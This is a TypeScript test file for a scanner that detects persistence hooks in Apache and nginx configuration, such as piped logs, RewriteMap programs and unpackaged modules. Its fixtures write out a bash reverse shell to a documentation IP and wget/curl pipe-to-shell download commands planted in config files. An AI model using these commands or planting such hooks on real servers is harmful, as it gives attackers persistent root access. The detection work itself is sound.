/**
 * The web servers' own hooks: Apache piped logs (`CustomLog "|…"`, `ErrorLog "|$…"`…), `RewriteMap prg:`, mod_ssl's
 * and friends' `exec:` helpers, `LoadModule`/`LoadFile`, Debian's envvars, nginx's `load_module`. The parsers
 * follow httpd's and nginx's readers (continuation lines, comments, quoting, `${VAR}`, sections, includes); planted
 * hooks fire, Debian's shipped configuration (every module and configuration enabled), rotatelogs-style piped
 * logs and a RHEL-layout httpd stay quiet.
 */
import assert from "node:assert/strict";
import { assertLinear } from "../linear.ts";
import { persistence } from "../../src/scanners/persistence/index.ts";
import {
  apacheDirectives,
  apacheLines,
  apacheModules,
  apacheProgram,
  apacheWords,
  nginxDirectives,
  resolveApacheVars,
} from "../../src/scanners/persistence/sources/web_server_parse.ts";
import { fixtureRoot, makeTree, runOne, type TreeEntry } from "../helpers.ts";
import { dpkgOwns, exe, fired, withAccounts } from "./persistence_fixtures.ts";
import { installedCopy } from "./stock_fixture.ts";

const REVERSE = "bash -i >& /dev/tcp/203.0.113.9/443 0>&1";
const NO_VARS = () => undefined;

/** The directives of `text` as "line name args…", variables resolved from `vars`. */
function directives(text: string, vars: Record<string, string> = {}): string[] {
  return [...apacheDirectives(text, (n) => vars[n])].map((d) =>
    `${d.line} ${d.name}${d.args.map((a) => ` [${a}]`).join("")}${d.condition ? ` in ${d.condition}` : ""}`
  );
}

/** The program the single directive of `line` runs, as "runner command" (shell marked), or undefined. */
function program(line: string): string | undefined {
  const d = [...apacheDirectives(line, NO_VARS)][0];
  const p = d && apacheProgram(d);
  return p && `${p.runner}${p.user ? `:${p.user}` : ""}${p.shell ? " sh" : ""} ${p.command}`;
}

Deno.test("apache lines: backslash continuation (also before CRLF), comments that swallow a continued line, NUL", () => {
  assert.deepEqual(
    apacheLines(
      [
        "  CustomLog \\",
        '\t"|/bin/x" combined\r',
        "# a comment that goes on \\",
        'ErrorLog "|/tmp/swallowed"',
        "LogLevel warn \\ ",
        "KeepAlive On\\\r",
        "",
        "Timeout 3\0 hidden",
        "EndsInBackslash \\",
      ].join("\n"),
    ),
    [
      { line: 1, text: 'CustomLog \t"|/bin/x" combined' },
      { line: 5, text: "LogLevel warn \\" },
      { line: 6, text: "KeepAlive On" },
      { line: 8, text: "Timeout 3" },
      { line: 9, text: "EndsInBackslash \\" },
    ],
  );
});

Deno.test("apache words and variables: quotes, escapes, ${VAR} from Defines and the environment", () => {
  assert.deepEqual(apacheWords(`CustomLog "|/bin/sh -c 'x \\"y\\"'" combined`), [
    "CustomLog",
    `|/bin/sh -c 'x "y"'`,
    "combined",
  ]);
  assert.deepEqual(apacheWords(`a 'b c' d\\\\e "unclosed rest`), ["a", "b c", "d\\e", "unclosed rest"]);
  assert.deepEqual(apacheWords('CustomLog |"/bin/sh -c x" c'), ["CustomLog", '|"/bin/sh', "-c", 'x"', "c"]);
  const vars: Record<string, string> = { LOG: "/var/log/apache2", D: "CustomLog" };
  assert.equal(
    resolveApacheVars("${D} ${LOG}/a ${UNSET} ${ $x}", (n) => vars[n]),
    "CustomLog /var/log/apache2/a ${UNSET} ${ $x}",
  );
  assert.equal(resolveApacheVars("${A${B}", NO_VARS), "${A${B}");
  assert.equal(resolveApacheVars("a ${open", NO_VARS), "a ${open");
});

Deno.test("apache directives: names without case, a directive named by a variable, sections not evaluated", () => {
  assert.deepEqual(
    directives(
      [
        "<IfModule mod_log_config.c>",
        '  cUsToMlOg "|/x" combined',
        "  <IfDefine !NOPE>",
        "    ${L} |/y",
        "  </IfDefine>",
        "</IfModule>",
        "<Else>",
        "</Else>",
        "LoadFile /a.so /b.so",
      ].join("\n"),
      { L: "TransferLog" },
    ),
    [
      "1 <ifmodule [mod_log_config.c]",
      "2 customlog [|/x] [combined] in <IfModule mod_log_config.c>",
      "3 <ifdefine [!NOPE] in <IfModule mod_log_config.c>",
      "4 transferlog [|/y] in <IfDefine !NOPE>",
      "5 </ifdefine> in <IfDefine !NOPE>",
      "6 </ifmodule> in <IfModule mod_log_config.c>",
      "7 <else",
      "8 </else> in <Else>",
      "9 loadfile [/a.so] [/b.so]",
    ],
  );
  const load = [...apacheDirectives("LoadModule x_module modules/mod_x.so\nLoadFile /a.so /b.so\n", NO_VARS)];
  assert.deepEqual(load.map(apacheModules), [["modules/mod_x.so"], ["/a.so", "/b.so"]]);
});

Deno.test("apache programs: piped-log forms, RewriteMap prg:, exec: helpers, ExtFilterDefine; files are not programs", () => {
  assert.equal(
    program('CustomLog "|/usr/bin/rotatelogs /var/log/a 86400" combined'),
    "parent /usr/bin/rotatelogs /var/log/a 86400",
  );
  assert.equal(program('ErrorLog "||/usr/bin/x -a"'), "parent /usr/bin/x -a");
  assert.equal(program("ErrorLog |$cat>>/tmp/l"), "parent sh cat>>/tmp/l");
  assert.equal(program('GlobalLog "||$ nc 203.0.113.9 9"'), "parent sh nc 203.0.113.9 9");
  assert.equal(program("TransferLog |/x"), "parent /x");
  assert.equal(program("ForensicLog |/f"), "parent /f");
  assert.equal(program("RewriteMap m PRG:/usr/local/bin/map"), "parent /usr/local/bin/map");
  assert.equal(program("RewriteMap m prg:/m www-data:www-data"), "named:www-data /m");
  assert.equal(
    program("SSLPassPhraseDialog exec:/usr/share/apache2/ask-for-passphrase"),
    "parent /usr/share/apache2/ask-for-passphrase",
  );
  assert.equal(program("SSLPassPhraseDialog |/usr/bin/pp"), "parent /usr/bin/pp");
  assert.equal(program("SSLRandomSeed startup exec:/bin/seed"), "parent /bin/seed");
  assert.equal(program("SSLRandomSeed connect exec:/bin/seed"), "child /bin/seed");
  assert.equal(program('AuthLDAPBindPassword "exec:/bin/pw -x"'), "parent /bin/pw -x");
  assert.equal(program("SessionCryptoPassphrase exec:/bin/pw"), "parent /bin/pw");
  assert.equal(
    program('ExtFilterDefine f mode=output CMD="/bin/sed \\"s/a/b/\\"" intype=text/html'),
    'child /bin/sed \\"s/a/b/\\"',
  );
  assert.equal(program("ExtFilterDefine f cmd=/bin/tr"), "child /bin/tr");
  for (
    const quiet of [
      "ErrorLog ${APACHE_LOG_DIR}/error.log",
      "ErrorLog syslog:local7",
      "CustomLog logs/access_log combined",
      'CustomLog "|" combined',
      "RewriteMap m txt:/etc/map.txt",
      "SSLPassPhraseDialog builtin",
      "SSLPassPhraseDialog EXEC:/x",
      "SSLRandomSeed startup file:/dev/urandom 512",
      "SSLRandomSeed Startup exec:/x",
      "AuthLDAPBindPassword secret",
      "ExtFilterDefine f mode=output",
      'LogFormat "|%h" x',
    ]
  ) assert.equal(program(quiet), undefined, quiet);
});

Deno.test("nginx directives: comments where a word starts, quotes and escapes, ${var} braces, blocks", () => {
  const d = [...nginxDirectives(
    [
      "load_module modules/a.so; # load_module /commented.so;",
      "load_module \"/b c.so\";load_module '/d\\'e.so';",
      "user www-data#not-a-comment;",
      "http {",
      "  include /etc/nginx/conf.d/*.conf;",
      '  set $x "${host}{";  map ${a}b $y { default 1; }',
      "}",
      "load_module /e\\;f.so;",
    ].join("\n"),
  )];

  assert.deepEqual(d.map((x) => `${x.line}:${x.depth} ${x.args.join("|")}`), [
    "1:0 load_module|modules/a.so",
    "2:0 load_module|/b c.so",
    "2:0 load_module|/d'e.so",
    "3:0 user|www-data#not-a-comment",
    "4:0 http",
    "5:1 include|/etc/nginx/conf.d/*.conf",
    "6:1 set|$x|${host}{",
    "6:1 map|${a}b|$y",
    "6:2 default|1",
    "8:0 load_module|/e\\;f.so",
  ]);
});

Deno.test("web server parsers: malformed input never throws", () => {
  const inputs = [
    "",
    "\\",
    "<",
    "</IfModule>\n</IfModule>",
    "<IfModule",
    '"',
    "'",
    "${",
    "${}",
    "CustomLog",
    "LoadModule",
    "RewriteMap m prg:",
    'ExtFilterDefine f cmd="',
    "}}}{{{;;;",
    'load_module "',
    "load_module \\",
    "#",
    "\0\uFFFD\r\r\n",
  ];
  for (const text of inputs) {
    for (const d of apacheDirectives(text, NO_VARS)) {
      apacheProgram(d);
      apacheModules(d);
    }
    for (const d of nginxDirectives(text)) assert.ok(d.args.length > 0, JSON.stringify(text));
  }
});

Deno.test("web server parsers take linear time on 1 MiB of hostile input", () => {
  const at = (n: number) => (s: string) => s.repeat(Math.max(1, Math.floor(n / s.length)));
  const run = (text: string) => {
    let n = 0;
    for (const d of apacheDirectives(text, (v) => v.length < 8 ? "CustomLog" : undefined)) {
      if (apacheProgram(d)) n++;
      n += apacheModules(d).length;
    }
    for (const d of nginxDirectives(text)) if (d.args[0] === "load_module") n++;
    return n;
  };
  const cases: [string, (fill: (s: string) => string) => string][] = [
    ["continued lines", (f) => f("a \\\n")],
    ["open variables", (f) => f("${")],
    ["variables", (f) => `CustomLog "|/x ${f("${V}")}"`],
    ["nested sections", (f) => f("<IfModule a>\n")],
    ["quoted escapes", (f) => `CustomLog "${f('\\"')}`],
    ["blanks", (f) => `CustomLog |/x${f(" \t")}y`],
    ["ext filter escapes", (f) => `ExtFilterDefine f cmd="${f("\\")}`],
    ["nginx blocks", (f) => f("a{")],
    ["nginx quotes", (f) => `load_module "${f("\\'")}`],
    ["nginx variables", (f) => f("${")],
    ["nginx comments", (f) => f("#;\n")],
  ];
  assertLinear(run, cases.map(([what, build]) => [what, (n: number) => build(at(n))] as const));
});

/** Packaged files of the fire and quiet fixtures. */
const OWNED = [
  "/usr/lib/apache2/modules/mod_alias.so",
  "/usr/lib/nginx/modules/ngx_stream_module.so",
  "/usr/bin/rotatelogs",
  "/usr/bin/logger",
];
const so = (): TreeEntry => ({ content: "\x7fELF", mode: 0o644 });

Deno.test("persistence: planted Apache and nginx hooks fire, each where the configuration names it", async () => {
  using root = makeTree(withAccounts({
    ...dpkgOwns("apache2-bin", OWNED),
    "etc/apache2/apache2.conf": [
      "IncludeOptional mods-enabled/*.load",
      "Include ports.conf",
      "IncludeOptional sites-enabled/*.conf",
      "Include conf.d",
    ].join("\n") + "\n",
    "etc/apache2/ports.conf": "Listen 80\n",
    "etc/apache2/envvars":
      `export APACHE_RUN_USER=www-data\nexport APACHE_LOG_DIR=/var/log/apache2\n${REVERSE}\n`,
    "etc/apache2/sites-enabled/shop.conf": [
      "<VirtualHost *:80>",
      `  CustomLog "|/bin/sh -c '${REVERSE}'" combined`,
      '  ErrorLog "|$/tmp/.cache/logd"',
      '  ErrorLog "||/usr/sbin/apache-logd -t ${APACHE_LOG_DIR}"',
      "  RewriteEngine on",
      '  RewriteMap lb "prg:/var/tmp/.m/map"',
      "  RewriteMap who prg:/home/bob/map.sh www-data:www-data",
      "</VirtualHost>",
    ].join("\n") + "\n",
    "etc/apache2/mods-enabled/alias.load": "LoadModule alias_module /usr/lib/apache2/modules/mod_alias.so\n",
    "etc/apache2/mods-enabled/authz_cache.load":
      "LoadModule authz_cache_module /usr/lib/apache2/modules/mod_authz_cache.so\n",
    "etc/apache2/mods-enabled/zz.load": "LoadFile /dev/shm/.l.so\n",
    // A directory Include reads every file, hidden ones and subdirectories' too, in order.
    "etc/apache2/conf.d/.hidden.conf": [
      "Define LOGGER TransferLog",
      '${LOGGER} "|$wget -qO- http://203.0.113.9/t|sh"',
      "# ErrorLog commented \\",
      'ErrorLog "|/tmp/swallowed-by-the-comment"',
      "<IfModule mod_ssl.c>",
      "  SSLPassPhraseDialog exec:/var/tmp/.p",
      "</IfModule>",
    ].join("\n") + "\n",
    "etc/apache2/conf.d/loop.conf": "Include conf.d/loop.conf\nInclude /etc/apache2/apache2.conf\n",
    // A directory a glob matches is read whole; a file the glob does not match is not read at all.
    "etc/apache2/sites-enabled/z.conf/.x": 'ErrorLog "|/var/tmp/.e"\n',
    "etc/apache2/sites-enabled/inert": `CustomLog "|/bin/sh -c '${REVERSE}'" combined\n`,
    "etc/nginx/modules-enabled/.hidden.conf": "load_module /tmp/x.so;\n",
    "tmp/x.so": so(),
    "etc/apache2/conf.d/sub/odd.conf":
      '  cUsToMlOg "|$curl -s http://203.0.113.9/p \\\n| sh" \\\n  combined\n',
    "usr/lib/apache2/modules/mod_alias.so": so(),
    "usr/lib/apache2/modules/mod_authz_cache.so": so(),
    "usr/lib/apache2/modules/mod_waiting.so": so(),
    "usr/sbin/apache-logd": exe("#!/bin/sh\ncat >/dev/null\n"),
    "dev/shm/.l.so": so(),
    "etc/nginx/nginx.conf": [
      "user www-data;",
      "load_module modules/ngx_http_evil_module.so;",
      "include /etc/nginx/modules-enabled/*.conf;",
      "events { }",
      "http { include /etc/nginx/conf.d/*.conf; }",
    ].join("\n") + "\n",
    "etc/nginx/modules-enabled/50-mod-stream.conf": "load_module modules/ngx_stream_module.so;\n",
    "usr/share/nginx/modules": { symlink: "../../lib/nginx/modules" },
    "usr/lib/nginx/modules/ngx_stream_module.so": so(),
    "usr/lib/nginx/modules/ngx_http_evil_module.so": so(),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), [
    "critical persistence.command.reverse_shell /etc/apache2/envvars:3",
    "critical persistence.command.reverse_shell /etc/apache2/sites-enabled/shop.conf:2",
    "high persistence.command.download_exec /etc/apache2/conf.d/.hidden.conf:2",
    "high persistence.command.download_exec /etc/apache2/conf.d/sub/odd.conf:1",
    "high persistence.command.untrusted_path /etc/apache2/conf.d/.hidden.conf:6",
    "high persistence.command.untrusted_path /etc/apache2/mods-enabled/zz.load:1",
    "high persistence.command.untrusted_path /etc/apache2/sites-enabled/shop.conf:3",
    "high persistence.command.untrusted_path /etc/apache2/sites-enabled/shop.conf:6",
    "high persistence.command.untrusted_path /etc/apache2/sites-enabled/z.conf/.x:1",
    "high persistence.web_server.unpackaged_module /etc/apache2/mods-enabled/authz_cache.load:1",
    "high persistence.web_server.unpackaged_module /etc/apache2/mods-enabled/zz.load:1",
    "high persistence.web_server.unpackaged_module /etc/nginx/nginx.conf:2",
    "medium persistence.command.unowned_program /etc/apache2/sites-enabled/shop.conf:4",
    "medium persistence.command.untrusted_path /etc/apache2/sites-enabled/shop.conf:7",
    "medium persistence.hook.unpackaged /usr/lib/apache2/modules/mod_waiting.so",
  ]);
  const byLine = (path: string, line: number) =>
    r.findings.find((f) =>
      f.metadata.path === path && f.metadata.line === line && f.check_id !== "persistence.inventory.point"
    )!;
  const shop = "/etc/apache2/sites-enabled/shop.conf";
  assert.equal(byLine(shop, 2).metadata.run_as, "root");
  assert.match(String(byLine(shop, 2).metadata.run_by), /^Apache.s parent process, which runs as root/);
  assert.match(
    String(byLine(shop, 2).metadata.hooks),
    /2: CustomLog piped log, started by Apache.s root parent process at start-up and restarted/,
  );
  assert.equal(byLine(shop, 7).metadata.run_as, "www-data", "RewriteMap's user:group");
  assert.match(String(byLine(shop, 4).metadata.command), /^\/usr\/sbin\/apache-logd -t \/var\/log\/apache2$/);
  const ssl = byLine("/etc/apache2/conf.d/.hidden.conf", 6);
  assert.deepEqual(ssl.metadata.conditional, [
    "6: inside <IfModule mod_ssl.c>, not evaluated: treated as active",
  ]);
  const nginx = r.findings.find((f) =>
    f.check_id === "persistence.web_server.unpackaged_module" && f.metadata.server === "nginx"
  )!;
  assert.equal(nginx.metadata.file, "/usr/lib/nginx/modules/ngx_http_evil_module.so", "the link is followed");
  assert.ok(!r.findings.some((f) => JSON.stringify(f.metadata).includes("swallowed")), "a continued comment");
});

Deno.test("persistence: ErrorLog piped to /tmp, RewriteMap relative to ServerRoot, an external filter as the User", async () => {
  using root = makeTree(withAccounts({
    "etc/httpd/conf/httpd.conf": 'ServerRoot "/etc/httpd"\nIncludeOptional conf.d/*.conf\n',
    "etc/httpd/conf.d/app.conf": [
      "<VirtualHost *:443>",
      "ErrorLog |/tmp/l",
      "RewriteMap r prg:bin/map",
      "</VirtualHost>",
      'ExtFilterDefine up mode=output cmd="/home/bob/f.sh -x"',
      "User www-data",
    ].join("\n") + "\n",
    "etc/httpd/bin": { dir: true, mode: 0o777 },
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(fired(r.findings), [
    "high persistence.command.untrusted_path /etc/httpd/conf.d/app.conf:2",
    "high persistence.command.untrusted_path /etc/httpd/conf.d/app.conf:3",
    "medium persistence.command.untrusted_path /etc/httpd/conf.d/app.conf:5",
  ]);
  const filter = r.findings.find((f) => f.metadata.line === 5)!;
  assert.equal(filter.metadata.run_as, "www-data", "a child process, as the User set after it");
  const map = r.findings.find((f) => f.metadata.line === 3)!;
  assert.equal(
    map.metadata.command,
    "/etc/httpd/bin/map",
    "relative to ServerRoot, in a world-writable directory",
  );
});

Deno.test("persistence: includes are followed as deep as httpd follows them; a loop ends", async () => {
  const chain: Record<string, TreeEntry> = {};
  for (let i = 0; i < 100; i++) {
    chain[`etc/apache2/n/${i}.conf`] = `Include n/${i + 1}.conf\nInclude n/0.conf\n`;
  }
  chain["etc/apache2/n/100.conf"] = "ErrorLog |/tmp/deep\n";
  using root = makeTree(withAccounts({ "etc/apache2/apache2.conf": "Include n/0.conf\n", ...chain }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(fired(r.findings), ["high persistence.command.untrusted_path /etc/apache2/n/100.conf:1"]);
  assert.deepEqual(r.warnings, []);
});

Deno.test("persistence: Debian's apache2 with every shipped module, configuration and site enabled is quiet", async () => {
  using root = installedCopy("debian12");
  const etc = `${root.path}/etc/apache2`;
  for (
    const [from, to, ext] of [["mods-available", "mods-enabled", ""], [
      "conf-available",
      "conf-enabled",
      ".conf",
    ]]
  ) {
    for (const e of Deno.readDirSync(`${etc}/${from}`)) {
      if (!e.name.endsWith(ext)) continue;
      try {
        Deno.symlinkSync(`../${from}/${e.name}`, `${etc}/${to}/${e.name}`);
      } catch { /* enabled already */ }
    }
  }
  Deno.symlinkSync("../sites-available/default-ssl.conf", `${etc}/sites-enabled/default-ssl.conf`);
  const r = await runOne(persistence, root.path, { persistenceInventory: true });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), []);
  assert.deepEqual(r.warnings, []);
  const ssl = r.findings.find((f) => f.metadata.path === "/etc/apache2/mods-enabled/ssl.conf")!;
  assert.deepEqual(
    ssl.metadata.entries,
    ["/usr/share/apache2/ask-for-passphrase"],
    "exec: judged, and owned",
  );
  assert.match(
    String((ssl.metadata.hooks as string[])[0]),
    /^34: SSLPassPhraseDialog pass-phrase program, started by Apache.s root parent process at start-up$/,
  );
});

Deno.test("persistence: rotatelogs and logger piped logs, syslog and file logs, nginx's packaged module are quiet", async () => {
  using root = makeTree(withAccounts({
    ...dpkgOwns("apache2-utils", OWNED),
    "etc/apache2/apache2.conf": [
      "ErrorLog ${APACHE_LOG_DIR}/error.log",
      'CustomLog "|/usr/bin/rotatelogs -l ${APACHE_LOG_DIR}/access.%Y-%m-%d 86400" combined',
      'ErrorLog "|$/usr/bin/logger -t apache -p local6.err"',
      "ErrorLog syslog:local1",
      "IncludeOptional sites-enabled/*.conf",
    ].join("\n") + "\n",
    "etc/apache2/envvars": "export APACHE_LOG_DIR=/var/log/apache2$SUFFIX\n",
    "usr/bin/rotatelogs": exe("\x7fELF"),
    "usr/bin/logger": exe("\x7fELF"),
    "etc/nginx/nginx.conf": await Deno.readTextFile(`${fixtureRoot("stock/debian12")}/etc/nginx/nginx.conf`),
    "etc/nginx/modules-enabled/50-mod-stream.conf": {
      symlink: "/usr/share/nginx/modules-available/mod-stream.conf",
    },
    "usr/share/nginx/modules-available/mod-stream.conf": "load_module modules/ngx_stream_module.so;\n",
    "usr/share/nginx/modules": { symlink: "../../lib/nginx/modules" },
    "usr/lib/nginx/modules/ngx_stream_module.so": so(),
  }));
  const r = await runOne(persistence, root.path, { persistenceInventory: true });
  assert.deepEqual(fired(r.findings), []);
  const conf = r.findings.find((f) => f.metadata.path === "/etc/apache2/apache2.conf")!;
  assert.deepEqual(conf.metadata.entries, [
    "/usr/bin/rotatelogs -l /var/log/apache2/access.%Y-%m-%d 86400",
    "/usr/bin/logger -t apache -p local6.err",
  ]);
});

Deno.test("persistence: a RHEL-layout httpd (ServerRoot /etc/httpd, modules/ a link into /usr/lib64) is quiet", async () => {
  using root = makeTree(withAccounts({
    ...dpkgOwns("httpd-core", [
      "/usr/lib64/httpd/modules/mod_alias.so",
      "/usr/lib64/httpd/modules/mod_log_config.so",
    ]),
    "etc/httpd/conf/httpd.conf": await Deno.readTextFile(
      `${fixtureRoot("stock/rhel9")}/etc/httpd/conf/httpd.conf`,
    ),
    // The shape of RHEL's conf.modules.d/00-base.conf: module paths relative to ServerRoot.
    "etc/httpd/conf.modules.d/00-base.conf":
      "LoadModule alias_module modules/mod_alias.so\nLoadModule log_config_module modules/mod_log_config.so\n",
    "etc/httpd/modules": { symlink: "../../usr/lib64/httpd/modules" },
    "usr/lib64/httpd/modules/mod_alias.so": so(),
    "usr/lib64/httpd/modules/mod_log_config.so": so(),
  }));
  const r = await runOne(persistence, root.path, { persistenceInventory: true });
  assert.deepEqual(fired(r.findings), []);
  const base = r.findings.find((f) => f.metadata.path === "/etc/httpd/conf.modules.d/00-base.conf")!;
  assert.deepEqual(base.metadata.modules, [
    "1: LoadModule modules/mod_alias.so (/usr/lib64/httpd/modules/mod_alias.so)",
    "2: LoadModule modules/mod_log_config.so (/usr/lib64/httpd/modules/mod_log_config.so)",
  ]);
});
